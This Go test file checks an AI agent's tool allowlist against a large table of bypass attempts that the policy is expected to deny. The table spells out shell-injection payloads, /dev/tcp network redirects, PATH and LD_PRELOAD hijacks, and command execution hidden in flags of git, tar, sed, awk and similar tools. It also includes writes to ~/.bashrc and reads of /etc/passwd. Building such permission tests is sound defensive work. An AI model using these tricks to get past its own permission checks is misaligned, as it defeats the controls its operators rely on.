package agent_test

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"
)

// The walls of the allowlist. wallNone is for calls that a step may make: a wall that
// stops everything is none.
const (
	wallNone   = 0
	wallOffer  = 1 // the tool is not in the model's list
	wallJudge  = 2 // the call is denied
	wallSystem = 3 // the program is allowed, and what it does is bounded by the sandbox only
)

// attempt is one row of the bypass table.
type attempt struct {
	wall int
	how  string // the trick
	call string // TOOL input; a Bash input is the command, a file tool's is the path
}

// bypasses is the table: ways around an allowlist, and which wall stops each.
// docs/agents.md says what the walls are; the third is tested where the system's
// rights are (sandboxtest, steps).
var bypasses = []struct {
	allowed, denied []string
	attempts        []attempt
}{
	{allowed: []string{"Read", "Glob(./src/**)", "Bash(go test:*)"}, denied: []string{"Read(.env)"}, attempts: []attempt{
		{wallNone, "what the step may do", "Bash go test ./..."},
		{wallNone, "what the step may do", "Read main.go"},
		{wallOffer, "another tool", "Write main.go"},
		{wallOffer, "another tool", "Edit main.go"},
		{wallOffer, "a tool of the web", "WebFetch x"},
		{wallOffer, "a subagent", "Agent x"},
		{wallOffer, "a subagent by its old name", "Task x"},
		{wallOffer, "a server's tool", "mcp__evil__run x"},
		{wallOffer, "the name in another case", "bash touch w"},
		{wallOffer, "the name with a space", "Bash\u00a0 touch w"},
		{wallOffer, "a background shell's tool", "KillShell x"},
		{wallOffer, "no name", " x"},
		{wallJudge, "a denied file", "Read .env"},
		{wallJudge, "a denied file by a detour", "Read src/../.env"},
		{wallJudge, "a denied file by its absolute name", "Read /home/user/workspace/.env"},
		{wallJudge, "a denied file in a folder", "Read deep/er/.env"},
		{wallJudge, "a denied file in another case", "Read .ENV"},
		{wallJudge, "a folder above the pattern", "Glob **"},
		{wallJudge, "a folder beside the pattern", "Glob src/../**"},
	}},
	{allowed: []string{"Bash(go test:*)", "Bash(echo:*)", "Bash(cat:*)"}, attempts: []attempt{
		{wallNone, "lists of what is allowed", "Bash go test ./... && echo ok || cat log | cat"},
		{wallNone, "a descriptor, no file", "Bash go test ./... 2>&1 > /dev/null"},
		{wallNone, "words, not a command", "Bash echo '; touch w' \"$(cat x)\" `cat y`"},
		{wallSystem, "code that the step wrote", "Bash go test -run TestThatWrites ./..."},
		{wallJudge, "another sub-command", "Bash go run ./evil.go"},
		{wallJudge, "a longer name", "Bash go testx"},
		{wallJudge, "chaining with ;", "Bash go test; touch w"},
		{wallJudge, "chaining with &&", "Bash go test && touch w"},
		{wallJudge, "chaining with ||", "Bash go test || touch w"},
		{wallJudge, "chaining with &", "Bash go test & touch w"},
		{wallJudge, "chaining with a newline", "Bash go test\ntouch w"},
		{wallJudge, "after a continued line", "Bash go test \\\n; touch w"},
		{wallJudge, "after a comment", "Bash go test # all\ntouch w"},
		{wallJudge, "a pipe", "Bash echo x | tee w"},
		{wallJudge, "a pipe of both streams", "Bash go test |& tee w"},
		{wallJudge, "a pipe into a shell", "Bash echo 'touch w' | sh"},
		{wallJudge, "a command substitution", "Bash go test $(touch w)"},
		{wallJudge, "backquotes", "Bash echo `touch w`"},
		{wallJudge, "a substitution in quotes", "Bash echo \"$(touch w)\""},
		{wallJudge, "a substitution in a default", "Bash echo ${x:-$(touch w)}"},
		{wallJudge, "a substitution in a replacement", "Bash echo ${x/a/$(touch w)}"},
		{wallJudge, "a substitution in an index", "Bash echo ${x[$(touch w)]}"},
		{wallJudge, "a substitution in arithmetic", "Bash echo $((x[$(touch w)]))"},
		{wallJudge, "text that is evaluated", "Bash echo ${x@P}"},
		{wallJudge, "an indirect name", "Bash echo ${!x}"},
		{wallJudge, "process substitution, reading", "Bash cat <(touch w)"},
		{wallJudge, "process substitution, writing", "Bash echo x > >(touch w)"},
		{wallJudge, "a here-document", "Bash cat <<E\n$(touch w)\nE"},
		{wallJudge, "a here-document without tabs", "Bash cat <<-E\n\t`touch w`\n\tE"},
		{wallJudge, "a here-string", "Bash cat <<< $(touch w)"},
		{wallJudge, "a redirect", "Bash echo x > w"},
		{wallJudge, "a redirect that appends", "Bash echo x >> w"},
		{wallJudge, "a redirect that clobbers", "Bash echo x >| w"},
		{wallJudge, "a redirect of both", "Bash echo x &> w"},
		{wallJudge, "a redirect to a name of the run", "Bash echo x > $w"},
		{wallJudge, "a redirect of a block", "Bash { echo x; } > w"},
		{wallJudge, "a redirect of a loop", "Bash for i in 1 2; do echo $i; done > w"},
		{wallJudge, "a redirect without a command", "Bash > w"},
		{wallJudge, "a redirect to the network", "Bash echo x > /dev/tcp/192.0.2.1/80"},
		{wallJudge, "a redirect into a variable", "Bash echo x {fd}> w"},
		{wallJudge, "reading from the network", "Bash cat < /dev/tcp/192.0.2.1/80"},
		{wallJudge, "a subshell", "Bash (touch w)"},
		{wallJudge, "a condition", "Bash if touch w; then echo x; fi"},
		{wallJudge, "a loop's condition", "Bash while touch w; do echo x; done"},
		{wallJudge, "a case", "Bash case x in x) touch w;; esac"},
		{wallJudge, "a coprocess", "Bash coproc touch w"},
		{wallJudge, "a negation", "Bash ! touch w"},
		{wallJudge, "a timed block", "Bash time { touch w; }"},
		{wallJudge, "a function", "Bash f() { touch w; }; f"},
		{wallJudge, "a function with an allowed name", "Bash echo() { touch w; }; echo"},
		{wallJudge, "an alias", "Bash alias echo='touch w'\necho"},
		{wallJudge, "a hashed name", "Bash hash -p /tmp/evil go; go test"},
		{wallJudge, "a loop over PATH", "Bash for PATH in /tmp/evil; do go test; done"},
		{wallJudge, "PATH=", "Bash PATH=/tmp/evil go test"},
		{wallJudge, "LD_PRELOAD=", "Bash LD_PRELOAD=./evil.so go test"},
		{wallJudge, "GOFLAGS=", "Bash GOFLAGS=-toolexec=./evil go test"},
		{wallJudge, "BASH_ENV=", "Bash BASH_ENV=./evil echo x"},
		{wallJudge, "an assignment before", "Bash PATH=/tmp/evil; go test"},
		{wallJudge, "export", "Bash export GOFLAGS=-exec=./evil; go test"},
		{wallJudge, "an assignment by expansion", "Bash echo ${GOFLAGS:=-exec=./evil}; go test"},
		{wallJudge, "a flag that runs a program", "Bash go test -exec ./evil ./..."},
		{wallJudge, "the same with two dashes", "Bash go test --exec=./evil ./..."},
		{wallJudge, "a tool that compiles", "Bash go test -toolexec=./evil ./..."},
		{wallJudge, "a flag of the run", "Bash go test $flags"},
		{wallJudge, "a glob that may be a flag", "Bash go test *"},
		{wallJudge, "another folder's module", "Bash go test -C /tmp/evil"},
		{wallJudge, "a written profile", "Bash go test -coverprofile=/home/user/.bashrc ./..."},
		{wallJudge, "a program named by a variable", "Bash $x test"},
		{wallJudge, "a program named by a glob", "Bash /bin/t?uch w"},
		{wallJudge, "a program named by braces", "Bash {touch,w}"},
		{wallJudge, "a program named by an escape", "Bash $'touch' w"},
		{wallJudge, "a program by its path", "Bash /usr/bin/touch w"},
		{wallJudge, "a program of the workspace with an allowed name", "Bash ./go test"},
		{wallJudge, "a program of the home", "Bash ~/go test"},
		{wallJudge, "quotes within the name", "Bash to''uch w"},
		{wallJudge, "a name with a space that is none", "Bash go\u00a0test"},
		{wallJudge, "a name with an invisible letter", "Bash e\u200bcho x"},
		{wallJudge, "letters that look alike", "Bash \u0435cho x"},
		{wallJudge, "a carriage return", "Bash echo x\r touch w"},
		{wallJudge, "a NUL", "Bash echo x\u0000; touch w"},
		{wallJudge, "an escape sequence", "Bash echo \u001b]0;x"},
		{wallJudge, "a word that does not end", "Bash echo 'x"},
		{wallJudge, "arithmetic", "Bash ((x=1))"},
		{wallJudge, "a test that evaluates", "Bash [[ -v 'a[$(touch w)]' ]]"},
		{wallJudge, "read into an index", "Bash read 'a[$(touch w)]'"},
		{wallJudge, "printf into an index", "Bash printf -v 'a[$(touch w)]' x"},
		{wallJudge, "a very long command", "Bash echo " + strings.Repeat("x", 70_000)},
		{wallJudge, "a very deep command", "Bash " + strings.Repeat("(", 400) + "echo x" + strings.Repeat(")", 400)},
		{wallJudge, "eval", "Bash eval 'touch w'"},
		{wallJudge, "exec", "Bash exec touch w"},
		{wallJudge, "command", "Bash command touch w"},
		{wallJudge, "builtin", "Bash builtin eval 'touch w'"},
		{wallJudge, "source", "Bash source ./evil"},
		{wallJudge, "a dot", "Bash . ./evil"},
		{wallJudge, "trap", "Bash trap 'touch w' EXIT"},
		{wallJudge, "a loaded builtin", "Bash enable -f ./evil.so x"},
	}},
	{allowed: []string{"Bash(env:*)", "Bash(xargs:*)", "Bash(timeout:*)", "Bash(nohup:*)", "Bash(nice:*)", "Bash(sudo:*)", "Bash(watch:*)", "Bash(ssh:*)", "Bash(sh:*)", "Bash(bash:*)",
		"Bash(setsid:*)", "Bash(stdbuf:*)", "Bash(flock:*)", "Bash(strace:*)", "Bash(valgrind:*)", "Bash(setarch:*)", "Bash(busybox:*)", "Bash(parallel:*)", "Bash(script:*)", "Bash(ls:*)"}, attempts: []attempt{
		{wallNone, "a wrapper of what is allowed", "Bash timeout 5 nice env ls | xargs ls"},
		{wallJudge, "env", "Bash env touch w"},
		{wallJudge, "env with a setting", "Bash env PATH=/tmp/evil ls"},
		{wallJudge, "env that splits", "Bash env -S 'touch w'"},
		{wallJudge, "xargs", "Bash ls | xargs touch"},
		{wallJudge, "xargs with a place", "Bash ls | xargs -I{} sh -c 'touch {}'"},
		{wallJudge, "timeout", "Bash timeout 5 touch w"},
		{wallJudge, "nohup", "Bash nohup touch w"},
		{wallJudge, "nice", "Bash nice -n 5 touch w"},
		{wallJudge, "sudo", "Bash sudo ls"},
		{wallJudge, "watch", "Bash watch touch w"},
		{wallJudge, "ssh", "Bash ssh localhost touch w"},
		{wallJudge, "sh -c", "Bash sh -c 'touch w'"},
		{wallJudge, "bash -c in bash -c", "Bash bash -c \"bash -c 'touch w'\""},
		{wallJudge, "a login shell", "Bash bash -lc ls"},
		{wallJudge, "a script", "Bash bash evil.sh"},
		{wallJudge, "a script on stdin", "Bash sh < evil.sh"},
		{wallJudge, "setsid", "Bash setsid touch w"},
		{wallJudge, "stdbuf", "Bash stdbuf -o0 touch w"},
		{wallJudge, "flock", "Bash flock x touch w"},
		{wallJudge, "strace", "Bash strace -o w ls"},
		{wallJudge, "valgrind", "Bash valgrind touch w"},
		{wallJudge, "setarch", "Bash setarch x86_64 touch w"},
		{wallJudge, "busybox", "Bash busybox touch w"},
		{wallJudge, "parallel", "Bash parallel touch ::: w"},
		{wallJudge, "script", "Bash script -c 'touch w'"},
	}},
	{allowed: []string{"Bash(git:*)", "Bash(find:*)", "Bash(tar:*)", "Bash(sed:*)", "Bash(awk:*)", "Bash(sort:*)", "Bash(make:*)", "Bash(npm test:*)", "Bash(curl:*)", "Bash(rsync:*)", "Bash(scp:*)",
		"Bash(man:*)", "Bash(less:*)", "Bash(vim:*)", "Bash(sqlite3:*)", "Bash(zip:*)", "Bash(split:*)", "Bash(rg:*)", "Bash(fd:*)", "Bash(gcc:*)", "Bash(cmake:*)", "Bash(kubectl:*)", "Bash(gh:*)",
		"Bash(hg:*)", "Bash(svn:*)", "Bash(rpm:*)", "Bash(apt-get:*)", "Bash(tcpdump:*)", "Bash(uniq:*)", "Bash(eslint:*)", "Bash(docker:*)", "Bash(m4:*)", "Bash(go env:*)", "Bash(echo:*)"}, attempts: []attempt{
		{wallNone, "what the programs are for", "Bash git status && find . -name '*.go' && sed -n 1,5p x && awk '{print $1}' x | sort | uniq -c"},
		{wallSystem, "a script of the workspace", "Bash npm test"},
		{wallSystem, "a Makefile of the workspace", "Bash make test"},
		{wallSystem, "a hook of the repository", "Bash git commit -m x"},
		{wallJudge, "git: an alias by -c", "Bash git -c alias.x='!touch w' x"},
		{wallJudge, "git: a setting from the environment", "Bash git --config-env=alias.x=X x"},
		{wallJudge, "git: another folder", "Bash git -C /tmp/evil status"},
		{wallJudge, "git: a pager", "Bash git -p log"},
		{wallJudge, "git: rebase --exec", "Bash git rebase --exec 'touch w' HEAD~1"},
		{wallJudge, "git: rebase -ix", "Bash git rebase -ix 'touch w' HEAD~1"},
		{wallJudge, "git: a shortened flag", "Bash git rebase --exe 'touch w' HEAD~1"},
		{wallJudge, "git: bisect run", "Bash git bisect run touch w"},
		{wallJudge, "git: submodule foreach", "Bash git submodule foreach 'touch w'"},
		{wallJudge, "git: config", "Bash git config core.fsmonitor 'touch w'"},
		{wallJudge, "git: clone -c", "Bash git clone -c core.sshCommand='touch w' ssh://a/b"},
		{wallJudge, "git: clone -u", "Bash git clone -u 'touch w' . x"},
		{wallJudge, "git: a transport that is a command", "Bash git clone ext::'sh -c touch% w' x"},
		{wallJudge, "git: the transport's helper", "Bash git remote-ext x 'touch w'"},
		{wallJudge, "git: upload-pack", "Bash git fetch --upload-pack 'touch w' ."},
		{wallJudge, "git: a grep that opens", "Bash git grep -Otouch x"},
		{wallJudge, "git: a diff that writes", "Bash git diff --output=/home/user/.bashrc"},
		{wallJudge, "git: a template with hooks", "Bash git init --template=/tmp/evil"},
		{wallJudge, "git: send-email's program", "Bash git send-email --smtp-server=/tmp/evil x"},
		{wallJudge, "git: an editor", "Bash git rebase -i HEAD~1"},
		{wallJudge, "find -exec", "Bash find . -exec touch w \\;"},
		{wallJudge, "find -delete", "Bash find . -delete"},
		{wallJudge, "find -fprintf", "Bash find . -fprintf w x"},
		{wallJudge, "find with flags of the run", "Bash find . $x"},
		{wallJudge, "tar --to-command", "Bash tar xf a --to-command='touch w'"},
		{wallJudge, "tar --checkpoint-action", "Bash tar cf a . --checkpoint-action=exec='touch w'"},
		{wallJudge, "tar -I", "Bash tar -I 'touch w' -cf a ."},
		{wallJudge, "tar without dashes", "Bash tar cIf ./evil a ."},
		{wallJudge, "sed e", "Bash sed '1e touch w' x"},
		{wallJudge, "sed s///e", "Bash sed 's/a/b/e' x"},
		{wallJudge, "sed w", "Bash sed 'w out' x"},
		{wallJudge, "sed -i", "Bash sed -i s/a/b/ x"},
		{wallJudge, "sed -f", "Bash sed -f evil x"},
		{wallJudge, "awk system()", "Bash awk 'BEGIN{system(\"touch w\")}'"},
		{wallJudge, "awk's pipe", "Bash awk '{print | \"sh\"}' x"},
		{wallJudge, "awk's redirect", "Bash awk '{print > \"w\"}' x"},
		{wallJudge, "awk's getline", "Bash awk 'BEGIN{\"touch w\" | getline}'"},
		{wallJudge, "awk -f", "Bash awk -f evil x"},
		{wallJudge, "sort --compress-program", "Bash sort --compress-program=./evil x"},
		{wallJudge, "sort -o", "Bash sort -o /home/user/.bashrc x"},
		{wallJudge, "uniq's second file", "Bash uniq x /home/user/.bashrc"},
		{wallJudge, "make --eval", "Bash make --eval='x:;touch w'"},
		{wallJudge, "make SHELL=", "Bash make SHELL=./evil"},
		{wallJudge, "make from stdin", "Bash echo 'x:;touch w' | make -f -"},
		{wallJudge, "npm's shell", "Bash npm test --script-shell=./evil"},
		{wallJudge, "npm's git", "Bash npm test --git=./evil"},
		{wallJudge, "another package", "Bash npm test --prefix /tmp/evil"},
		{wallJudge, "curl -o", "Bash curl -o /home/user/.bashrc http://x"},
		{wallJudge, "curl -sSfLo", "Bash curl -sSfLo w http://x"},
		{wallJudge, "curl -K", "Bash curl -K evil"},
		{wallJudge, "rsync -e", "Bash rsync -e 'touch w' a b:"},
		{wallJudge, "scp -S", "Bash scp -S ./evil a b:"},
		{wallJudge, "scp ProxyCommand", "Bash scp -oProxyCommand='touch w' a b:"},
		{wallJudge, "man -P", "Bash man -P 'touch w' ls"},
		{wallJudge, "a pager", "Bash less x"},
		{wallJudge, "an editor", "Bash vim -c '!touch w' x"},
		{wallJudge, "a database's shell", "Bash sqlite3 x '.shell touch w'"},
		{wallJudge, "zip -TT", "Bash zip -T -TT 'touch w' a b"},
		{wallJudge, "split --filter", "Bash split --filter='touch w' x"},
		{wallJudge, "rg --pre", "Bash rg --pre ./evil x"},
		{wallJudge, "fd -x", "Bash fd . -x touch w"},
		{wallJudge, "fd -Hx", "Bash fd -Hx touch w"},
		{wallJudge, "gcc -wrapper", "Bash gcc -wrapper ./evil x.c"},
		{wallJudge, "gcc -fplugin", "Bash gcc -fplugin=./evil.so x.c"},
		{wallJudge, "gcc @file", "Bash gcc @evil x.c"},
		{wallJudge, "a linker's plugin", "Bash gcc -Wl,-plugin,./evil.so x.c"},
		{wallJudge, "cmake -E", "Bash cmake -E touch w"},
		{wallJudge, "cmake -P", "Bash cmake -P evil.cmake"},
		{wallJudge, "another machine", "Bash kubectl exec pod -- touch w"},
		{wallJudge, "a plugin of credentials", "Bash kubectl --kubeconfig=evil get pods"},
		{wallJudge, "gh alias", "Bash gh alias set x '!touch w'"},
		{wallJudge, "hg --config", "Bash hg --config alias.x='!touch w' x"},
		{wallJudge, "svn --diff-cmd", "Bash svn diff --diff-cmd ./evil"},
		{wallJudge, "rpm --eval", "Bash rpm --eval '%(touch w)'"},
		{wallJudge, "apt-get -o", "Bash apt-get -o APT::Update::Pre-Invoke::='touch w' update"},
		{wallJudge, "tcpdump -z", "Bash tcpdump -z ./evil -G 1 -w x"},
		{wallJudge, "eslint's formatter", "Bash eslint -f ./evil.js ."},
		{wallJudge, "docker", "Bash docker run -v /:/x y"},
		{wallJudge, "m4", "Bash m4 evil"},
		{wallJudge, "a setting that stays", "Bash go env -w GOFLAGS=-toolexec=./evil"},
	}},
	{allowed: []string{"Edit(./src/**)", "Write(./out/*)", "Read(./**)"}, attempts: []attempt{
		{wallNone, "beneath the pattern", "Edit src/a/b.go"},
		{wallNone, "beneath the pattern, absolute", "Write /home/user/workspace/out/x"},
		{wallOffer, "a shell", "Bash touch w"},
		{wallJudge, "beside it", "Edit main.go"},
		{wallJudge, "a detour", "Edit src/../main.go"},
		{wallJudge, "a longer name", "Edit srcx/a.go"},
		{wallJudge, "deeper than the pattern", "Write out/a/b"},
		{wallJudge, "the home", "Edit ../.bashrc"},
		{wallJudge, "the home by its sign", "Edit ~/.bashrc"},
		{wallJudge, "an absolute path", "Write /etc/passwd"},
		{wallJudge, "another tool's pattern", "Write src/a.go"},
		{wallJudge, "outside of the workspace", "Read /etc/passwd"},
		{wallJudge, "a NUL", "Edit src/\u0000../main.go"},
		{wallJudge, "a detour that is long", "Edit src/" + strings.Repeat("x/../", 200) + "../main.go"},
	}},
}

// inputOf makes the input of a row's call.
func inputOf(tool, text string) json.RawMessage {
	key := map[string]string{"Bash": "command", "Glob": "pattern", "Grep": "path"}[tool]
	if key == "" {
		key = "file_path"
	}
	raw, _ := json.Marshal(map[string]string{key: text})
	return raw
}

// TestBypasses tries every row. Run with -v for the table.
func TestBypasses(t *testing.T) {
	t.Parallel()
	stopped := map[int]int{}
	for _, g := range bypasses {
		p := policy(t, g.allowed, g.denied)
		for _, a := range g.attempts {
			tool, text, _ := strings.Cut(a.call, " ")
			offered := slices.Contains(p.Offered(), tool)
			d := p.Judge(tool, inputOf(tool, text))
			got := wallSystem
			switch {
			case !offered && d.Allow:
				t.Errorf("%s (%s): not offered, and yet allowed", a.call, a.how)
			case !offered:
				got = wallOffer
			case !d.Allow:
				got = wallJudge
			case a.wall == wallNone:
				got = wallNone
			}
			if got != a.wall {
				t.Errorf("%s: %.200q: stopped by wall %d, want %d (%s)", a.how, a.call, got, a.wall, d.Reason)
			}
			if !d.Allow && d.Reason == "" {
				t.Errorf("%s: denied without a reason", a.how)
			}
			stopped[got]++
			t.Logf("%d  %-45s %.100s", got, a.how, strings.ReplaceAll(a.call, "\n", "⏎"))
		}
	}
	if n := stopped[wallOffer] + stopped[wallJudge] + stopped[wallSystem]; n < 60 {
		t.Errorf("%d attempts, want 60 at least", n)
	}
	t.Logf("stopped: %d not offered, %d not executed, %d left to the sandbox; %d may happen", stopped[wallOffer], stopped[wallJudge], stopped[wallSystem], stopped[wallNone])
}

// TestWriteGrants: where Write is allowed as a whole, flags that only write are too.
func TestWriteGrants(t *testing.T) {
	t.Parallel()
	const byLong, byShort = "sort --output=out x", "sort -o out x"
	for _, c := range []struct {
		allowed, denied []string
		command         string
		want            bool
	}{
		{[]string{"Bash(sort:*)", "Write"}, nil, byLong, true},
		{[]string{"Bash(sort:*)", "Write(./out/**)"}, nil, byLong, false},
		{[]string{"Bash(sort:*)", "Write"}, []string{"Write(./out/**)"}, byLong, false},
		{[]string{"Bash(sort:*)", "Write"}, []string{"Edit(./out/**)"}, byLong, false},
		{[]string{"Bash(sort:*)", "Write"}, []string{"Write"}, byLong, false},
		{[]string{"Bash(sort -o out:*)"}, nil, byShort, true},
		{[]string{"Bash(sort:*)", "Write"}, nil, "sort --compress-program=./x y", false},
	} {
		if d := policy(t, c.allowed, c.denied).Judge("Bash", bash(c.command)); c.want != d.Allow {
			t.Errorf("%s with %v, not %v: allowed %v (%s)", c.command, c.allowed, c.denied, d.Allow, d.Reason)
		}
	}
}
